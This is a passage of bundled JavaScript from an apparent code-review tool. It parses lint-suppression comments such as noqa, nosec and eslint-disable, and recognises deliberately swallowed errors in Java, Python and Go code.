                if (alone && (marker.kind === 'nolint' || marker.kind === 'prlens-ignore')) {
                    add(found.nextLine, end.line + 2, marker);
                }
            }
        }
    }
    found.regions.push(...open);
    return found;
}
/**
 * The 1-based lines where the multi-line strings of a Python match end: ruff and flake8 read a
 * `noqa` there as covering the whole string ("for multi-line strings, the noqa directive should come
 * at the end of the string", https://docs.astral.sh/ruff/linter/#error-suppression), as indico's
 * Alembic migrations write `''')  # noqa: S608` after their SQL (fresh10).
 */
function multilineStringEnds(node, language) {
    if (language !== 'python')
        return [];
    const strings = [node, ...node.findAll({ rule: { kind: 'string' } })].filter((s) => String(s.kind()) === 'string' && s.range().end.line > s.range().start.line);
    return strings.map((s) => s.range().end.line + 1);
}
/**
 * For a Python flow rule's value that is a variable (`count_query = f"\u2026"  # noqa: S608`, then
 * `execute(count_query)`): the first and last 1-based lines of each assignment of it in the
 * enclosing function, `+=` included. Ruff's S608 and Bandit's B608 report the string that builds
 * the SQL, not the call that runs it, so that is where a team marks it (lnbits' `db.py`, fresh15).
 * Empty when the value is no variable or nothing in the function assigns it.
 */
function assignmentLines(value, language) {
    if (language !== 'python' || !value || String(value.kind()) !== 'identifier')
        return [];
    const scope = value.ancestors().find((a) => String(a.kind()) === 'function_definition');
    if (!scope)
        return [];
    // `q += f"\u2026 {x}"` adds to the SQL as `q = \u2026` does: its line must carry a marker too.
    const assigned = {
        any: [{ kind: 'assignment' }, { kind: 'augmented_assignment' }],
        has: { field: 'left', regex: `^${value.text()}$` },
    };
    return scope.findAll({ rule: assigned }).map((a) => [a.range().start.line + 1, a.range().end.line + 1]);
}
/**
 * The marker that silences `rule` on a match spanning `startLine` (1-based) whose finding sits on
 * `line`, or null; a `noqa` also counts on `stringEnds` (see multilineStringEnds). With `builtAt`
 * (see assignmentLines), a same-line marker that applies on a line of every assignment of the
 * value counts too: one unmarked assignment may be the one that carries input. `node` is the
 * match, for Java's `@SuppressWarnings` on enclosing declarations.
 */
function suppressionFor(found, rule, where, node) {
    const lines = new Set([where.startLine, where.line]);
    for (const line of lines) {
        for (const marker of found.sameLine.get(line) ?? [])
            if (applies(marker, rule))
                return marker.kind;
        for (const marker of found.nextLine.get(line) ?? [])
            if (applies(marker, rule))
                return marker.kind;
    }
    const markedAt = (group) => group.flatMap((l) => found.sameLine.get(l) ?? []).find((m) => applies(m, rule));
    const built = (where.builtAt ?? []).map(markedAt);
    if (built.length > 0 && built.every((m) => m !== undefined))
        return built[0].kind;
    for (const line of where.stringEnds ?? []) {
        for (const marker of found.sameLine.get(line) ?? [])
            if (marker.kind === 'noqa' && applies(marker, rule))
                return marker.kind;
    }
    for (const region of found.regions) {
        if (region.from <= where.line && where.line <= region.to && applies(region.marker, rule))
            return region.marker.kind;
    }
    if (node) {
        const names = suppressWarningsOf(node);
        if (names.length > 0) {
            const marker = {
                kind: '@SuppressWarnings',
                names: names.includes('all') ? null : names,
                securityOnly: false,
            };
            if (applies(marker, rule))
                return marker.kind;
        }
    }
    return null;
}
function applies(marker, rule) {
    if (marker.securityOnly && rule.category !== 'security' && marker.names === null)
        return false;
    if (marker.names === null)
        return true;
    const own = new Set([rule.id, `prlens/${rule.id}`, ...rule.aliases].map((n) => n.toLowerCase()));
    return marker.names.some((name) => own.has(name.toLowerCase()));
}
function add(map, line, marker) {
    map.set(line, [...(map.get(line) ?? []), marker]);
}
function stripDelimiters(text) {
    return text
        .replace(/^\s*(?:\/\/+|\/\*+|#+|--)/, '')
        .replace(/\*+\/\s*$/, '')
        .trim();
}
/** The suppression directives in one comment's text (delimiters already removed). */
function directives(text) {
    const out = [];
    const names = (list) => {
        const parsed = (list ?? '')
            .split(/\s+--\s|\s\/\/\s/)[0]
            .split(/[\s,]+/)
            // `nosec:B105` (Kiwi TCMS's settings, tuning) names B105 as `nosec: B105` and `nosec B105` do.
            .map((n) => n.trim().replace(/^:+/, ''))
            .filter((n) => /^[\w@./:-]+$/.test(n) && /\w/.test(n));
        return parsed.length > 0 ? parsed : null;
    };
    const m = (kind, list, securityOnly = false) => ({
        kind,
        names: list,
        securityOnly,
    });
    let match = /^eslint-disable-next-line\b(.*)$/s.exec(text);
    if (match)
        return [{ kind: 'next-line', marker: m('eslint-disable-next-line', names(match[1])) }];
    match = /^eslint-disable-line\b(.*)$/s.exec(text);
    if (match)
        return [{ kind: 'same-line', marker: m('eslint-disable-line', names(match[1])) }];
    match = /^eslint-disable\b(.*)$/s.exec(text);
    if (match)
        return [{ kind: 'region-start', marker: m('eslint-disable', names(match[1])) }];
    if (/^eslint-enable\b/.test(text))
        return [{ kind: 'region-end', marker: m('eslint-enable', null) }];
    match = /^eslint\s+(.+)$/s.exec(text);
    if (match) {
        // `/* eslint no-empty: 0, eqeqeq: "off" */`: rules turned off for the whole file.
        const off = [...match[1].matchAll(/([@\w/-]+)\s*:\s*\[?\s*(?:0|"off"|'off'|off)\b/g)].map((x) => x[1]);
        if (off.length > 0)
            out.push({ kind: 'file', marker: m('eslint config comment', off) });
        return out;
    }
    if (/^flake8[:\s]+noqa\b/i.test(text))
        return [{ kind: 'file', marker: m('flake8: noqa', null) }];
    // Same-line markers may share a comment with other text (`x = 1  # noqa: E501  # nosec`).
    match = /(?:^|[\s#])#?nosec\b([^#]*)/i.exec(text);
    if (match)
        out.push({ kind: 'same-line', marker: m('nosec', names(match[1]), true) });
    match = /(?:^|\s|#)noqa\b(?::\s*([^#]*))?/i.exec(text);
    if (match)
        out.push({ kind: 'same-line', marker: m('noqa', names(match[1])) });
    match = /(?:^|\s)nolint\b(?::(\S*))?/.exec(text);
    if (match)
        out.push({ kind: 'same-line', marker: m('nolint', names(match[1])) });
    if (/\bNOSONAR\b/.test(text))
        out.push({ kind: 'same-line', marker: m('NOSONAR', null) });
    match = /(?:^|\s)prlens-ignore\b(.*)$/s.exec(text);
    if (match)
        out.push({ kind: 'same-line', marker: m('prlens-ignore', names(match[1])) });
    return out;
}
const DECLARATIONS = new Set([
    'method_declaration',
    'constructor_declaration',
    'class_declaration',
    'interface_declaration',
    'enum_declaration',
    'record_declaration',
    'field_declaration',
    'local_variable_declaration',
]);
/** The names in `@SuppressWarnings(...)` on the Java declarations around `node`. */
function suppressWarningsOf(node) {
    const names = [];
    for (const ancestor of [node, ...node.ancestors()]) {
        if (!DECLARATIONS.has(String(ancestor.kind())))
            continue;
        for (const child of ancestor.children()) {
            if (String(child.kind()) !== 'modifiers')
                continue;
            for (const annotation of child.text().matchAll(/@(?:java\.lang\.)?SuppressWarnings\s*\(([^)]*)\)/g)) {
                for (const value of annotation[1].matchAll(/"([^"]*)"/g))
                    names.push(value[1]);
            }
        }
    }
    return names;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/core/compare-text.js
var compare_text = __webpack_require__(44418);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/java-probes.js

// What a failed class lookup throws, and the catches that take any exception.
const LOOKUP_FAILURE = /^(ClassNotFoundException|NoClassDefFoundError|LinkageError|ReflectiveOperationException|ExceptionInInitializerError|SecurityException)$/;
const ANY_FAILURE = /^(Exception|RuntimeException|Throwable|Error)$/;
// The JDK's class lookups, and the calls that only fetch the class loader they are made on.
const CLASS_LOOKUP = /^(Class\.forName|[\w.()]*\.loadClass)$/;
const LOADER_GETTER = /^(Thread\.currentThread|[\w.()]*\.(getContextClassLoader|getClassLoader))$/;
// A file operation whose boolean result says whether it happened (the only one that throws IOException).
const MARKER_CALL = 'createNewFile';
// Words before a name that do not declare it (`return certFile;`).
const STATEMENT_WORD = /^(return|throw|yield|case|else|new|assert)$/;
const IO_FAILURE = /^(IOException|SecurityException|Exception)$/;
/** The try a Java catch closes, and the simple names of the types the catch takes. */
function tryOf(node) {
    if ((0,flow_syntax/* kindOf */.I)(node) !== 'catch_clause')
        return undefined;
    const tryStatement = node.parent();
    const body = tryStatement && (0,flow_syntax/* kindOf */.I)(tryStatement) === 'try_statement' ? tryStatement.field('body') : null;
    if (!body)
        return undefined;
    const types = (node.find({ rule: { kind: 'catch_type' } })?.text() ?? '')
        .split('|')
        .map((t) => t.trim().replace(/^.*\./, ''));
    return { body, types };
}
const java_probes_callName = (call) => `${call.field('object')?.text() ?? ''}.${call.field('name')?.text() ?? ''}`.replace(/\s+/g, '');
/** A catch whose try only looks classes up by name: the probe of an optional library. */
function classPresenceProbe(node) {
    const probe = tryOf(node);
    if (!probe || !probe.types.every((t) => LOOKUP_FAILURE.test(t) || ANY_FAILURE.test(t)))
        return false;
    const calls = probe.body.findAll({ rule: { kind: 'method_invocation' } });
    const lookups = calls.filter((c) => CLASS_LOOKUP.test(java_probes_callName(c)));
    return (lookups.length > 0 &&
        calls.every((c) => lookups.includes(c) || LOADER_GETTER.test(java_probes_callName(c))) &&
        !probe.body.find({
            rule: { any: [{ kind: 'object_creation_expression' }, { kind: 'lambda_expression' }] },
        }));
}
/** A catch whose try only creates a marker file and already discards whether it was created. */
function bestEffortMarkerFile(node) {
    const probe = tryOf(node);
    if (!probe || !probe.types.every((t) => IO_FAILURE.test(t)))
        return false;
    const statements = probe.body.children().filter((c) => !/^[{}]$/.test(c.text()));
    const [only] = statements;
    const call = only?.child(0);
    if (statements.length !== 1 || (0,flow_syntax/* kindOf */.I)(only) !== 'expression_statement' || !call)
        return false;
    if ((0,flow_syntax/* kindOf */.I)(call) !== 'method_invocation' || call.field('name')?.text() !== MARKER_CALL)
        return false;
    if (!/^\(\s*\)$/.test(call.field('arguments')?.text() ?? ''))
        return false;
    const target = call.field('object');
    if (!target)
        return false;
    if ((0,flow_syntax/* kindOf */.I)(target) === 'object_creation_expression')
        return target.field('type')?.text() === 'File';
    if ((0,flow_syntax/* kindOf */.I)(target) !== 'identifier')
        return false;
    // Every declaration of that name in the file is a `File`: a project's own type must not borrow it.
    const file = node.getRoot().root().text();
    const types = [...file.matchAll(new RegExp(String.raw `\b([\w.]+)\s+${target.text()}\s*[=;,)]`, 'g'))]
        .map((m) => m[1] ?? '')
        .filter((t) => !STATEMENT_WORD.test(t));
    return types.length > 0 && types.every((t) => /^(java\.io\.)?File$/.test(t));
}
// What a failed parse throws: the only failures a catch of these types can swallow from a parse.
const PARSE_FAILURE = /^(NumberFormatException|ParseException|DateTimeParseException)$/;
// A catch of any exception: safe only when the try can throw nothing but a parse failure.
const CATCH_ALL = /^(Exception|RuntimeException|IllegalArgumentException|Throwable)$/;
// The JDK's parsers of numbers, dates and ids (`Integer.parseInt`, `Long.valueOf`, `UUID.fromString`,
// `LocalDate.parse`). Known by the class they are called on, never by a method name alone: a
// project's own `parse(token)` may be a check whose failure must not be dropped.
const JDK_PARSE = /^(Integer|Long|Short|Byte|Double|Float|Boolean|UUID|LocalDate|LocalDateTime|LocalTime|Instant|ZonedDateTime|OffsetDateTime|Duration|Period)\.(parse\w*|valueOf|decode|fromString)$/;
// The JDK's formats, whose `parse` reads a date or a number.
const JDK_FORMAT = /^(SimpleDateFormat|DateFormat|DateTimeFormatter|NumberFormat|DecimalFormat)$/;
// Calls that only compute in memory: nothing they could fail at is lost when a catch drops it.
const MEMORY_CALL = /^(System\.arraycopy|Math\.\w+|Arrays\.copyOf\w*|String\.valueOf)$/;
// What a parse probe may build: a format to parse with, a number, a string.
const MEMORY_TYPE = /^(SimpleDateFormat|DecimalFormat|Integer|Long|Double|BigDecimal|BigInteger|String)$/;
/** `call` is a JDK parser, or `parse` on a variable the file declares only as one of the JDK's formats. */
function isJdkParse(call, file) {
    const object = call.field('object')?.text() ?? '';
    const name = call.field('name')?.text() ?? '';
    if (JDK_PARSE.test(`${object}.${name}`))
        return true;
    if (name !== 'parse' || !/^\w+$/.test(object))
        return false;
    // Every declaration of that name in the file: another method's `Verifier df` must not borrow the
    // trust of a `SimpleDateFormat df` declared elsewhere.
    const types = [...file.matchAll(new RegExp(String.raw `\b(\w+)\s+${object}\s*[=;,)]`, 'g'))].map((m) => m[1] ?? '');
    return types.length > 0 && types.every((t) => JDK_FORMAT.test(t));
}
/**
 * `call` is `getX()` on this object, and the file's only method of that name returns a field and
 * does nothing else (`String getStartDate() { return startDate; }`): known by its body, not its name.
 */
function isFieldGetter(call) {
    const name = call.field('name')?.text() ?? '';
    if (call.field('object') || !/^\(\s*\)$/.test(call.field('arguments')?.text() ?? ''))
        return false;
    const declared = call
        .getRoot()
        .root()
        .findAll({
        rule: { kind: 'method_declaration', has: { field: 'name', regex: `^${name.replace(/\$/g, '\\$')}$` } },
    });
    const [only] = declared;
    return (declared.length === 1 &&
        /^\(\s*\)$/.test(only?.field('parameters')?.text() ?? '') &&
        /^\{\s*return\s+(this\.)?\w+\s*;\s*\}$/.test(only?.field('body')?.text() ?? ''));
}
/**
 * A Java catch whose try parses a number, a date or an id with the JDK: every exception type the
 * catch names is a parse failure, or it takes any exception and every call in the try is such a
 * parse or an in-memory computation (a `new` only of a format, a number or a string): a failure of
 * anything else (a lookup, a write, a project's own `parse`) still reports.
 */
function parseProbe(node) {
    if (String(node.kind()) !== 'catch_clause')
        return false;
    const tryStatement = node.parent();
    const body = tryStatement && String(tryStatement.kind()) === 'try_statement' ? tryStatement.field('body') : null;
    if (!body)
        return false;
    const file = node.getRoot().root().text();
    const calls = body.findAll({ rule: { kind: 'method_invocation' } });
    const parses = (call) => isJdkParse(call, file);
    if (!calls.some(parses))
        return false;
    const types = (node.find({ rule: { kind: 'catch_type' } })?.text() ?? '')
        .split('|')
        .map((t) => t.trim().replace(/^.*\./, ''));
    if (types.every((t) => PARSE_FAILURE.test(t)))
        return true;
    if (!types.every((t) => CATCH_ALL.test(t) || PARSE_FAILURE.test(t)))
        return false;
    const inMemory = (call) => MEMORY_CALL.test(`${call.field('object')?.text() ?? ''}.${call.field('name')?.text() ?? ''}`) ||
        isFieldGetter(call);
    const built = body.findAll({ rule: { kind: 'object_creation_expression' } });
    return (calls.every((call) => parses(call) || inMemory(call)) &&
        built.every((b) => MEMORY_TYPE.test(b.field('type')?.text() ?? '')));
}
// A literal that is a default by itself. Not null: a null default is dereferenced as often as checked.
const NON_NULL_LITERAL = /^(-?\d+(\.\d+)?[LlFfDd]?|true|false|""|'.')$/;
const SCOPE = /^(method_declaration|constructor_declaration|lambda_expression|static_initializer)$/;
/**
 * A catch whose try only assigns one local variable that already holds a default, and the code after
 * the try keeps to that default on a failure: the default is a literal other than null (`int
 * maxKeyLen = 0;` before `maxKeyLen = Cipher.getMaxAllowedKeyLength("AES")`), or the first use of the
 * variable after the try is an `if` that tests it (`String host = null; try { host = new
 * URL(url).getHost(); } catch (MalformedURLException e) {} if (StringUtils.isEmpty(host)) host = \u2026`).
 * gitblit's SSH welcome host, plugin checksums and JCE probe (fresh28). A null default that the code
 * then dereferences (Roller's stylesheet, fresh12), a try that does more, or a field still report.
 */
function keptDefault(node) {
    const probe = tryOf(node);
    const tryStatement = node.parent();
    if (!probe || !tryStatement)
        return false;
    const statements = probe.body
        .children()
        .filter((c) => !/^[{}]$/.test(c.text()) && !/comment$/.test((0,flow_syntax/* kindOf */.I)(c)));
    const assignment = statements[0]?.child(0);
    if (statements.length !== 1 || (0,flow_syntax/* kindOf */.I)(statements[0]) !== 'expression_statement')
        return false;
    if (!assignment || (0,flow_syntax/* kindOf */.I)(assignment) !== 'assignment_expression')
        return false;
    const target = assignment.field('left');
    if (!target || (0,flow_syntax/* kindOf */.I)(target) !== 'identifier' || assignment.field('operator')?.text() !== '=')
        return false;
    const scope = node.ancestors().find((a) => SCOPE.test((0,flow_syntax/* kindOf */.I)(a)));
    if (!scope)
        return false;
    const name = target.text();
    const start = tryStatement.range().start.index;
    const declared = scope.findAll({
        rule: { kind: 'variable_declarator', has: { field: 'name', regex: `^${name.replace(/\$/g, '\\$')}$` } },
    });
    const value = declared[0]?.field('value');
    if (declared.length !== 1 || !value || declared[0].range().end.index > start)
        return false;
    if (NON_NULL_LITERAL.test(value.text()))
        return true;
    const end = tryStatement.range().end.index;
    const later = scope
        .findAll({ rule: { kind: 'identifier', regex: `^${name.replace(/\$/g, '\\$')}$` } })
        .filter((i) => i.range().start.index > end);
    const first = later[0];
    return first !== undefined && testedByIf(first);
}
/**
 * The identifier sits in the condition of an `if` (within its own statement), as a value tested or
 * passed, not dereferenced: `if (head.equals(id))` on a null default would throw.
 */
function testedByIf(identifier) {
    const parent = identifier.parent();
    if (parent &&
        /^(method_invocation|field_access)$/.test((0,flow_syntax/* kindOf */.I)(parent)) &&
        parent.field('object')?.id() === identifier.id())
        return false;
    let child = identifier;
    for (const a of identifier.ancestors()) {
        if ((0,flow_syntax/* kindOf */.I)(a) === 'if_statement')
            return a.field('condition')?.id() === child.id();
        if (/statement$|declaration$/.test((0,flow_syntax/* kindOf */.I)(a)))
            return false;
        child = a;
    }
    return false;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/go-fallbacks.js
// The process's own console (errcheck's default excludes), or `X.Writer()` of a standard logger.
const CONSOLE = /^os\.(Stdout|Stderr)$/;
/**
 * Whether the dropped call writes where a failure cannot happen or cannot be reported: the console
 * (`json.NewEncoder(os.Stdout).Encode(v)`), an in-memory buffer, a standard logger's own writer.
 */
function writesToConsole(node) {
    const call = discardedCall(node);
    if (!call)
        return false;
    const target = encoderTarget(call) ?? call.field('function')?.field('operand');
    const text = target?.text() ?? '';
    if (CONSOLE.test(text) || isMemoryBuffer(text, node.getRoot().root().text()))
        return true;
    const logger = /^([\w.]+)\.Writer\(\)$/.exec(text)?.[1];
    return logger !== undefined && isStdLogger(logger.replace(/^.*\./, ''), node.getRoot().root().text());
}
/**
 * Whether `target` (`&b`, `w.buf`) is a field or variable the file declares as a `bytes.Buffer` or
 * `strings.Builder`, whose writes never fail (errcheck's default excludes): a struct's own buffer too,
 * which the rule's YAML, looking only in the function, cannot see.
 */
function isMemoryBuffer(target, file) {
    const name = /^&?(?:[\w.]*\.)?(\w+)$/.exec(target)?.[1];
    if (!name)
        return false;
    return new RegExp(`(^|[\\s(,])${name}(\\s*,\\s*\\w+)*\\s+\\*?(bytes\\.Buffer|strings\\.Builder)\\b`, 'm').test(file);
}
/**
 * Whether the file builds `name` with the standard library's `log.New` (under any import alias): its
 * own `Printf` drops write errors by design (`log.Logger.Output`'s error is ignored by every printer).
 */
function isStdLogger(name, file) {
    const aliases = ['log', ...[...file.matchAll(/^\s*(\w+)\s+"log"\s*$/gm)].map((m) => m[1] ?? '')];
    return aliases.some((alias) => new RegExp(`\\b${name}\\s*:?=\\s*${alias}\\.New\\(`).test(file));
}
/** The call on the right of `_ =` (Go), if the match is such a statement. */
function discardedCall(node) {
    if (String(node.kind()) !== 'assignment_statement')
        return undefined;
    const right = node.field('right');
    const call = right?.children().find((c) => String(c.kind()) === 'call_expression') ?? right;
    return call && String(call.kind()) === 'call_expression' ? call : undefined;
}
/** `W` of `pkg.NewEncoder(W).Encode(...)`. */
function encoderTarget(call) {
    const inner = call.field('function')?.field('operand');
    if (String(inner?.kind()) !== 'call_expression')
        return undefined;
    if (!/\.NewEncoder$/.test(inner?.field('function')?.text() ?? ''))
        return undefined;
    return inner
        ?.field('arguments')
        ?.children()
        .find((c) => !/^[(),]$/.test(c.text()));
}
/**
 * Whether the dropped call is `X.Encode(v)` with `X` declared a `yaml.Node` in the file, or
 * `E.Encode(src, dst)` with `dst` declared a `url.Values` (a literal `url.Values{}` or a `var`).
 */
function encodesInMemory(node) {
    const call = discardedCall(node);
    const fn = call?.field('function');
    if (String(fn?.kind()) !== 'selector_expression' || fn?.field('field')?.text() !== 'Encode')
        return false;
    const file = node.getRoot().root().text();
    const args = (call?.field('arguments')?.children() ?? []).filter((c) => !/^[(),]$/.test(c.text()));
    const declared = (name, type) => /^\w+$/.test(name) &&
        new RegExp(`(\\bvar\\s+${name}\\s+\\*?${type}\\b|\\b${name}\\s*:?=\\s*&?${type}\\{)`).test(file);
    const receiver = fn?.field('operand')?.text() ?? '';
    if (args.length === 1)
        return declared(receiver, 'yaml\\.Node');
    return args.length === 2 && declared(args[1]?.text() ?? '', 'url\\.Values');
}
/**
 * `_ = os.MkdirAll(dir, \u2026)` followed, in the same function, by `err = \u2026(\u2026 dir \u2026)` whose error is
 * checked: the write into the folder fails, and reports, when the folder could not be made. A path
 * built from the folder first (`mainPath := filepath.Join(path, "main.db")`, then `db, err :=
 * open(mainPath)`: syncthing's database open, fresh25) is the folder too, and so is a file whose
 * folder the call makes (`filepath.Dir(path)`).
 */
function reportedByNextStep(node) {
    const call = discardedCall(node);
    if (!/^os\.Mkdir(All)?$/.test(call?.field('function')?.text() ?? ''))
        return false;
    const arg = call?.field('arguments')?.children()[1]?.text() ?? '';
    // The folder of a file (`MkdirAll(filepath.Dir(path), \u2026)`, then `os.OpenFile(path, \u2026)`: kubeshark's
    // unzip, fresh26): creating the file there fails, and reports, when its folder could not be made.
    const dir = /^(filepath|path)\.Dir\(([\w.]+)\)$/.exec(arg)?.[2] ?? arg;
    if (!/^[\w.]+$/.test(dir))
        return false;
    const rest = [];
    for (let next = node.next(); next; next = next.next())
        rest.push(next.text());
    const text = rest.join('\n');
    return [dir, ...pathsBuiltFrom(dir, text)].some((name) => errorChecked(name, text));
}
/** A regular expression matching `name` as a whole word; `.` in a field access matches itself. */
const word = (name) => `\\b${name.replace(/\./g, '\\.')}\\b`;
/** An `err` assigned on a line that uses `name` and checked against nil on the next line. */
function errorChecked(name, text) {
    return new RegExp(`\\b(err\\w*)\\s*:?=\\s*[^\\n]*${word(name)}[^\\n]*\\n\\s*if\\s+\\1\\s*!=\\s*nil`).test(text);
}
/** Names assigned, alone on their line, a value built from `dir` (`p := filepath.Join(dir, "x")`). */
function pathsBuiltFrom(dir, text) {
    const built = new RegExp(`^\\s*(\\w+)\\s*:?=\\s*[^\\n]*${word(dir)}`, 'gm');
    return [...text.matchAll(built)].flatMap((m) => (m[1] && m[1] !== dir && !/^err/.test(m[1]) ? [m[1]] : []));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/deliberate-fallback.js





/** Why a match is a deliberate fallback, or `undefined` when nothing shows it is. */
function deliberateFallback(node, language) {
    if (documented(node))
        return 'a comment says why the failure is dropped';
    if (inTestSetup(node, language))
        return 'it runs in a test helper or fixture, which fails its test anyway';
    if (namedIgnored(node))
        return 'the exception is named to be ignored';
    if (inFinally(node, language))
        return "it is cleanup in a `finally`, which must not replace the try's own error";
    if (beforeRethrow(node, language))
        return 'it is cleanup on the error path, before the handler raises the failure it caught';
    if (defaultFollows(node, language))
        return 'the try returns what it found and a literal default follows it';
    if (language === 'java' && parseProbe(node))
        return 'it probes whether a string parses, and a value that does not keeps its default';
    if (language === 'java' && classPresenceProbe(node))
        return 'it probes whether a class is on the classpath, and a library that is absent keeps the default';
    if (language === 'java' && bestEffortMarkerFile(node))
        return 'it only creates a marker file whose `createNewFile` result the code already ignores';
    if (language === 'java' && keptDefault(node))
        return 'the try only assigns a variable that already holds a default, and the code after it keeps or checks that default';
    if (language === 'python' && inMaintainerTask(node))
        return "it runs in a maintainer's invoke or fabric task";
    if (language !== 'go')
        return undefined;
    if (writesToConsole(node))
        return "the write goes to the process's own console or log, which has nowhere to report it";
    if (reportedByNextStep(node))
        return 'the next write into the folder checks its error';
    if (encodesInMemory(node))
        return 'it encodes into a value in memory (a `yaml.Node`, `url.Values`), which stores nothing that could be lost';
    return undefined;
}
const COMMENT = /^(line_comment|block_comment|comment)$/;
/** Whether `node` is a function of `language` (the flow tables' function kinds). */
const isFunction = (node, language) => (0,languages/* isCodeLanguage */.aN)(language) && flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(node));
/**
 * A comment on the match's last line, after it (`_ = row.Scan(&v) // old table may be missing`), or
 * one that opens the paragraph the statement ends: only statements, no blank line, between them.
 * A comment further up, past a blank line, speaks for other code.
 */
function documented(node) {
    const statement = statementOf(node);
    if (!statement)
        return false;
    const end = statement.range().end.line;
    const after = statement.next();
    if (after && COMMENT.test(String(after.kind())) && after.range().start.line === end)
        return true;
    let line = statement.range().start.line;
    for (let prev = previous(statement); prev; prev = previous(prev)) {
        if (prev.range().end.line < line - 1)
            return false;
        if (COMMENT.test(String(prev.kind())))
            return true;
        line = prev.range().start.line;
    }
    return false;
}
/** The sibling before `node`; Go's grammar keeps a block's leading comments outside its statement list. */
function previous(node) {
    const parent = node.parent();
    return node.prev() ?? (parent && String(parent.kind()) === 'statement_list' ? parent.prev() : null);
}
/**
 * The statement the match is when it drops the error out loud (Go's `_ = f()`): a comment beside an
 * explicit drop is its reason. A comment above `err := f()` or `defer f.Close()` describes the step,
 * not a decision to lose its failure, and a clause (catch, except) has its own comment inside.
 */
function statementOf(node) {
    if (String(node.kind()) !== 'assignment_statement')
        return undefined;
    return /^_(\s*,\s*_)*$/.test(node.field('left')?.text() ?? '') ? node : undefined;
}
// Go: a parameter of the testing package's types. JUnit 4/5 and TestNG set-up and tear-down
// annotations. pytest's fixture decorator and unittest's set-up and tear-down methods. Jest, Mocha
// and Vitest hooks.
const GO_TEST_PARAM = /^\*?testing\.(T|TB|B|M|F)$/;
const JAVA_SETUP = /@(Before|After)(Each|All|Class|Method|Suite|Test|Groups)?\b/;
const PY_SETUP_NAME = /^(setUp|tearDown|setUpClass|tearDownClass|asyncSetUp|asyncTearDown|setup_method|teardown_method|setup_class|teardown_class|setup_module|teardown_module)$/;
const PY_FIXTURE = /^@(pytest\.)?fixture\b/;
const JS_HOOK = /^(beforeEach|beforeAll|afterEach|afterAll|before|after)$/;
/**
 * Whether a function around the match is a test's helper or fixture (checked per function, not per
 * file). Never in a file that reads a request or declares a handler: a test hook or a `*testing.T`
 * parameter a PR adds there must not hide a swallowed failure of shipped request handling.
 */
function inTestSetup(node, language) {
    if ((0,languages/* isCodeLanguage */.aN)(language) && (0,entry_points/* servesRequests */.Hu)(node.getRoot().root().text(), language))
        return false;
    for (const a of node.ancestors()) {
        const kind = String(a.kind());
        if (language === 'go' && isFunction(a, language)) {
            const params = a.field('parameters')?.children() ?? [];
            if (params.some((p) => GO_TEST_PARAM.test(p.field('type')?.text() ?? '')))
                return true;
        }
        else if (language === 'java' && kind === 'method_declaration') {
            return JAVA_SETUP.test(a
                .children()
                .find((c) => String(c.kind()) === 'modifiers')
                ?.text() ?? '');
        }
        else if (language === 'python' && kind === 'function_definition') {
            if (PY_SETUP_NAME.test(a.field('name')?.text() ?? ''))
                return true;
            const decorated = a.parent();
            if (String(decorated?.kind()) === 'decorated_definition') {
                const decorators = decorated?.children().filter((c) => String(c.kind()) === 'decorator') ?? [];
                if (decorators.some((d) => PY_FIXTURE.test(d.text())))
                    return true;
            }
        }
        else if ((0,languages/* targetsOf */.QR)('javascript').includes(language) && kind === 'call_expression') {
            if (JS_HOOK.test(a.field('function')?.text() ?? ''))
                return true;
        }
    }
    return false;
}
// PMD's allowExceptionNameRegex default, plus the `_`-prefix and `ignore` spellings ESLint and
// IntelliJ honour.
const IGNORED_NAME = /^(_\w*|ignored?\w*|expected\w*)$/;
/** A catch or except inside a `finally` clause of the same function. */
function inFinally(node, language) {
    const kind = String(node.kind());
    if (kind !== 'catch_clause' && kind !== 'except_clause')
        return false;
    for (const a of node.ancestors()) {
        const k = String(a.kind());
        if (k === 'finally_clause')
            return true;
        if (isFunction(a, language))
            return false;
    }
    return false;
}
/**
 * An empty handler inside another handler that raises after it (`except OSError as e: try:
 * os.unlink(tmp) except: pass; raise \u2026`): cleanup on the error path, like cleanup in a `finally`,
 * must not replace the failure the outer handler reports.
 */
function beforeRethrow(node, language) {
    const kind = String(node.kind());
    if (kind !== 'catch_clause' && kind !== 'except_clause')
        return false;
    // Python raises, Java and JavaScript throw; Go has no handler to nest in.
    if (language === 'go')
        return false;
    const end = node.range().end.index;
    for (const a of node.ancestors()) {
        if (isFunction(a, language))
            return false;
        const k = String(a.kind());
        if (k !== 'catch_clause' && k !== 'except_clause')
            continue;
        const raises = a.findAll({
            rule: { kind: language === 'python' ? 'raise_statement' : 'throw_statement' },
        });
        return raises.some((r) => r.range().start.index > end);
    }
    return false;
}
/** `catch (E ignored) {}`, `catch (_err) {}`, `except E as ignored: pass`. */
function namedIgnored(node) {
    const kind = String(node.kind());
    if (kind === 'catch_clause') {
        const java = node.children().find((c) => String(c.kind()) === 'catch_formal_parameter');
        const name = java ? java.field('name') : node.field('parameter');
        return IGNORED_NAME.test(name?.text() ?? '');
    }
    if (kind !== 'except_clause')
        return false;
    const target = node.find({ rule: { kind: 'as_pattern_target' } });
    return IGNORED_NAME.test(target?.text() ?? '');
}
// A literal default: null, None, false, 0, -1, an empty string, list, map or Optional.
const DEFAULT_RETURN = /^return(\s+(null|undefined|None|nil|false|False|true|True|-?\d+[LlFfDd]?|""|''|``|\[\]|\{\}|\(\)|Optional\.empty\(\)|(Collections\.empty\w*|List\.of|Map\.of|Set\.of)\(\)))?\s*;?$/;
/**
 * The catch ends a try that returns a value, and the one statement left after the try in its block
 * returns a literal default: on failure the function returns that default on purpose. A try that
 * ends the block of an `if` with no `else` counts the statements after the `if`: the lenient
 * getter's guard, `if (!isEmpty(s)) { try { return df.parse(s); } catch (Exception e) {} } return
 * null;` (Roller's search forms read an unparsable date as no date filter, fresh12).
 */
function defaultFollows(node, language) {
    const kind = String(node.kind());
    if (kind !== 'catch_clause' && kind !== 'except_clause')
        return false;
    const tryStatement = node.parent();
    if (!tryStatement || String(tryStatement.kind()) !== 'try_statement')
        return false;
    const body = tryStatement.field('body');
    if (!body?.find({ rule: { kind: 'return_statement', regex: '^return\\s+\\S' } }))
        return false;
    let after = statementsAfter(tryStatement);
    const block = tryStatement.parent();
    const guard = block?.parent();
    if (after.length === 0 &&
        block &&
        guard &&
        String(guard.kind()) === 'if_statement' &&
        guard.field('consequence')?.id() === block.id() &&
        !guard.field('alternative'))
        after = statementsAfter(guard);
    const [last] = after;
